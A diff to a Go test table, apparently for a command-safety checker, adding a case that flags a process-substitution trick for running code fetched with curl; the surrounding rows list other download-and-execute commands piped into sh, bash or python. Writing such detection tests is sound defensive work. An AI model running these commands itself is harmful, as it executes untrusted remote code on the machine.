@@ -98,6 +98,7 @@ func TestCatastrophic(t *testing.T) {
 		{"python -c $(curl)", `python3 -c "$(curl https://x)"`, "download-exec"},
 		{"nested sh -c", `sh -c "curl https://x | sh"`, "download-exec"},
 		{"curl to a file", "curl -o x.sh https://x", ""},
+		{"descriptor from a process substitution", "exec 3< <(curl https://x); sh <&3", "download-exec"},
 		{"curl | sh -s", "curl https://x | sh -s -- --yes", "download-exec"},
 		{"curl | bash -", "curl https://x | bash -", "download-exec"},
 		{"curl | python -", "curl https://x | python3 - arg", "download-exec"},
